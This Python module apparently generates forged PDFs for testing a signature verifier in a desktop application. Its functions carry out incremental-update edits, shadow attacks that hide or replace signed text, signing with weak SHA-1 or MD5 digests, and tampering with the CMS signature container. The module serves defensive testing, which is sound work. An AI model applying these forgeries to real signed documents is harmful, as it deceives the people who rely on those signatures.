"""Attack files made from genuine ones; each function returns the bytes of one forged file."""

from __future__ import annotations

import asyncio
import io
from collections.abc import Callable

from asn1crypto import algos, cms, core
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import SigFieldSpec, SigSeedSubFilter, append_signature_field
from pyhanko.sign.signers.pdf_signer import PdfSignatureMetadata, PdfSigner

from qtic_desktop.documents.signing.keys import SignerKey
from qtic_desktop.documents.signing.pyhanko_parts import KeptKeySigner, QuietWriter

Writer = IncrementalPdfFileWriter


def appended(pdf: bytes, change: Callable[[Writer], object]) -> bytes:
    """The file with one more revision in which ``change`` was made."""
    writer = QuietWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: Writer, number: int = 0) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][number]


def repaint(writer: Writer) -> None:
    """Paint over the first page."""
    page = _page(writer)
    more = writer.add_object(generic.StreamObject(stream_data=b"q 1 g 60 680 300 40 re f Q"))
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), more])
    writer.update_container(page)


def metadata(writer: Writer) -> None:
    """Write another title."""
    writer.set_info(writer.add_object(generic.DictionaryObject({pdf_name("/Title"): pdf_string("another")})))


def language(writer: Writer) -> None:
    """Change an entry of the catalogue."""
    writer.root["/Lang"] = pdf_string("en-GB")
    writer.update_root()


def annotation(writer: Writer) -> None:
    """Stick a note with other words over the text."""
    page = _page(writer)
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject(generic.NumberObject(edge) for edge in (60, 680, 360, 720)),
            pdf_name("/Contents"): pdf_string("Not agreed"),
        }
    )
    page["/Annots"] = generic.ArrayObject([writer.add_object(note)])
    writer.update_container(page)


def more_pages(writer: Writer) -> None:
    """Add a copy of the first page at the end."""
    pages = writer.root["/Pages"]
    copy = generic.DictionaryObject(dict(_page(writer).items()))
    pages["/Kids"].append(writer.add_object(copy))
    pages["/Count"] = generic.NumberObject(len(pages["/Kids"]))
    writer.update_container(pages["/Kids"])
    writer.update_container(pages)


def reordered_pages(writer: Writer) -> None:
    """Turn the pages round."""
    pages = writer.root["/Pages"]
    pages["/Kids"] = generic.ArrayObject(reversed([pages["/Kids"].raw_get(n) for n in range(len(pages["/Kids"]))]))
    writer.update_container(pages)


def _last_field(writer: Writer) -> generic.DictionaryObject:
    return writer.root["/AcroForm"]["/Fields"][-1]


def strip_last_signature(writer: Writer) -> None:
    """Take the value out of the last signature field."""
    field = _last_field(writer)
    del field["/V"]
    writer.update_container(field)


def strip_first_signature(writer: Writer) -> None:
    """Take the value out of the certifying signature's field."""
    field = writer.root["/AcroForm"]["/Fields"][0]
    del field["/V"]
    writer.update_container(field)


def remove_last_field(writer: Writer) -> None:
    """Take the last field out of the form."""
    form = writer.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject(form["/Fields"].raw_get(n) for n in range(len(form["/Fields"]) - 1))
    writer.update_container(form)
    writer.update_root()


def rename_last_field(writer: Writer) -> None:
    """Give the last signature to another field name."""
    field = _last_field(writer)
    field["/T"] = pdf_string("Leader")
    writer.update_container(field)


def repaint_signature(writer: Writer) -> None:
    """Put another picture on the last signature."""
    field = _last_field(writer)
    box = generic.ArrayObject(generic.NumberObject(edge) for edge in (0, 0, 100, 40))
    entries = {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): box}
    form = writer.add_object(generic.StreamObject(entries, stream_data=b"0 g 0 0 100 40 re f"))
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): form})
    writer.update_container(field)


def text_field(writer: Writer) -> None:
    """Add a form field that anybody can fill in."""
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): pdf_string("Remark"),
            pdf_name("/V"): pdf_string("Not agreed"),
        }
    )
    form = writer.root["/AcroForm"]
    form["/Fields"].append(writer.add_object(field))
    writer.update_container(form["/Fields"])
    writer.update_root()


def empty_signature_field(writer: Writer) -> None:
    """Add one more field for a signature."""
    append_signature_field(writer, SigFieldSpec("Another", on_page=0, box=(10, 10, 60, 30)))


def unprotected(writer: Writer) -> None:
    """Take the certification out of the catalogue."""
    del writer.root["/Perms"]
    writer.update_root()


def hide_by_layer(writer: Writer) -> None:
    """Put the words of the first page on a layer that is switched off (shadow attack: hide)."""
    layer = writer.add_object(
        generic.DictionaryObject({pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): pdf_string("words")})
    )
    off = generic.DictionaryObject({pdf_name("/OFF"): generic.ArrayObject([layer])})
    layers = {pdf_name("/OCGs"): generic.ArrayObject([layer]), pdf_name("/D"): off}
    writer.root["/OCProperties"] = writer.add_object(generic.DictionaryObject(layers))
    writer.update_root()
    page = _page(writer)
    begin = writer.add_object(generic.StreamObject(stream_data=b"/OC /Hidden BDC"))
    end = writer.add_object(generic.StreamObject(stream_data=b"EMC"))
    page["/Contents"] = generic.ArrayObject([begin, page.raw_get("/Contents"), end])
    page["/Resources"]["/Properties"] = generic.DictionaryObject({pdf_name("/Hidden"): layer})
    writer.update_container(page["/Resources"])
    writer.update_container(page)


def replace_words(writer: Writer) -> None:
    """Give the number of the first page's content stream to another stream (shadow attack: replace)."""
    number = _page(writer).raw_get("/Contents").reference
    writer.objects[(number.generation, number.idnum)] = generic.StreamObject(
        stream_data=b"BT /F1 12 Tf 80 700 Td (Not agreed) Tj ET"
    )


def swap_font(writer: Writer) -> None:
    """Let another font draw the same codes as other words."""
    fonts = _page(writer)["/Resources"]["/Font"]
    for name in list(fonts):
        kind = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/ZapfDingbats"}
        entries = {pdf_name(key): pdf_name(value) for key, value in kind.items()}
        fonts[name] = writer.add_object(generic.DictionaryObject(entries))
    writer.update_container(fonts)


def smaller_page(writer: Writer) -> None:
    """Cut the words away by a smaller page box."""
    page = _page(writer)
    page["/CropBox"] = generic.ArrayObject(generic.NumberObject(edge) for edge in (0, 0, 300, 300))
    writer.update_container(page)


def script(writer: Writer) -> None:
    """Run a script when the file is opened."""
    entries = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("this.getField('x')")}
    writer.root["/OpenAction"] = writer.add_object(generic.DictionaryObject(entries))
    writer.update_root()


def redraw_by_viewer(writer: Writer) -> None:
    """Ask the viewer to draw the fields anew, so that what is seen need not be what was signed."""
    form = writer.root["/AcroForm"]
    form["/NeedAppearances"] = generic.BooleanObject(True)
    writer.update_container(form)
    writer.update_root()


def more_permissions(writer: Writer) -> None:
    """Let the certification allow notes as well."""
    reference = writer.root["/Perms"]["/DocMDP"]["/Reference"][0]
    reference["/TransformParams"]["/P"] = generic.NumberObject(3)
    writer.update_container(reference["/TransformParams"])


def another_name(writer: Writer) -> None:
    """Write another signer's name and reason into the first signature."""
    signature = writer.root["/AcroForm"]["/Fields"][0]["/V"]
    signature["/Name"] = pdf_string("somebody else")
    writer.update_container(signature)


APPENDED = (
    hide_by_layer, replace_words, swap_font, smaller_page, script, redraw_by_viewer, more_permissions, another_name,
    repaint, metadata, language, annotation, more_pages, reordered_pages, strip_last_signature,
    strip_first_signature, remove_last_field,
    rename_last_field, repaint_signature, text_field, empty_signature_field, unprotected,
)  # fmt: skip


BEFORE_THE_LAST = tuple(attack for attack in APPENDED if attack is not strip_last_signature)
#: Signing itself removes what ``redraw_by_viewer`` and ``repaint_signature`` do.
WITH_THE_LAST = tuple(
    attack for attack in BEFORE_THE_LAST if attack not in (remove_last_field, repaint_signature, redraw_by_viewer)
)


def signed_with_change(pdf: bytes, field_name: str, key: SignerKey, change: Callable[[Writer], object]) -> bytes:
    """Sign and make ``change`` in the same revision, as an insider with a genuine key could."""
    writer = QuietWriter(io.BytesIO(pdf))
    change(writer)
    meta = PdfSignatureMetadata(
        field_name=field_name, md_algorithm="sha256", subfilter=SigSeedSubFilter.PADES, name="李㛃"
    )
    return bytes(asyncio.run(PdfSigner(meta, KeptKeySigner(key)).async_sign_pdf(writer)).getvalue())


class _OldDigests(KeptKeySigner):
    """Signs with digests that are no longer safe."""

    async def async_sign_raw(self, data: bytes, digest_algorithm: str, dry_run: bool = False) -> bytes:
        old = {"sha1": hashes.SHA1, "md5": hashes.MD5}.get(digest_algorithm)
        if old is None or dry_run:
            return await super().async_sign_raw(data, "sha256", dry_run)
        assert isinstance(self._key, rsa.RSAPrivateKey)
        return self._key.sign(data, padding.PKCS1v15(), old())


def signed_by_old_digest(pdf: bytes, field_name: str, key: SignerKey, digest: str) -> bytes:
    """Certify with SHA-1 or MD5, for which two documents of one digest can be made."""
    meta = PdfSignatureMetadata(
        field_name=field_name, certify=True, md_algorithm=digest, subfilter=SigSeedSubFilter.PADES, name="王䶮"
    )
    writer = QuietWriter(io.BytesIO(pdf))
    return bytes(asyncio.run(PdfSigner(meta, _OldDigests(key)).async_sign_pdf(writer)).getvalue())


def signed_otherwise(pdf: bytes, field_name: str, key: SignerKey, *, certify: bool, digest: str = "sha256") -> bytes:
    """Sign with the bare library: no certification, another digest or a new field, as foreign programs do."""
    meta = PdfSignatureMetadata(field_name=field_name, certify=certify, md_algorithm=digest, name="王䶮")
    signer = PdfSigner(meta, KeptKeySigner(key))
    return bytes(asyncio.run(signer.async_sign_pdf(QuietWriter(io.BytesIO(pdf)))).getvalue())


def last_gap(pdf: bytes) -> tuple[int, int]:
    """Start and end of the hexadecimal digits of the last signature's container."""
    start = pdf.rindex(b"/Contents <") + len(b"/Contents <")
    return start, pdf.index(b">", start)


def with_container(pdf: bytes, change: Callable[[cms.SignedData], None]) -> bytes:
    """The file with the last container changed in parts that no digest covers."""
    start, end = last_gap(pdf)
    info = cms.ContentInfo.load(bytes.fromhex(pdf[start:end].decode()))
    signed = info["content"].copy()
    change(signed)
    data = cms.ContentInfo({"content_type": "signed_data", "content": signed}).dump(force=True)
    return pdf[:start] + data.hex().upper().encode().ljust(end - start, b"0") + pdf[end:]


def add_unsigned_attribute(signed: cms.SignedData) -> None:
    signed["signer_infos"][0]["unsigned_attrs"] = [
        {"type": "1.2.3.4.5", "values": [core.OctetString(b"smuggled")]},
    ]


def add_digest(signed: cms.SignedData) -> None:
    signed["digest_algorithms"] = [*signed["digest_algorithms"], algos.DigestAlgorithm({"algorithm": "sha1"})]


def add_signer(signed: cms.SignedData) -> None:
    signed["signer_infos"] = [signed["signer_infos"][0], signed["signer_infos"][0].copy()]


def no_signer(signed: cms.SignedData) -> None:
    signed["signer_infos"] = []


def change_version(signed: cms.SignedData) -> None:
    signed["version"] = "v3"
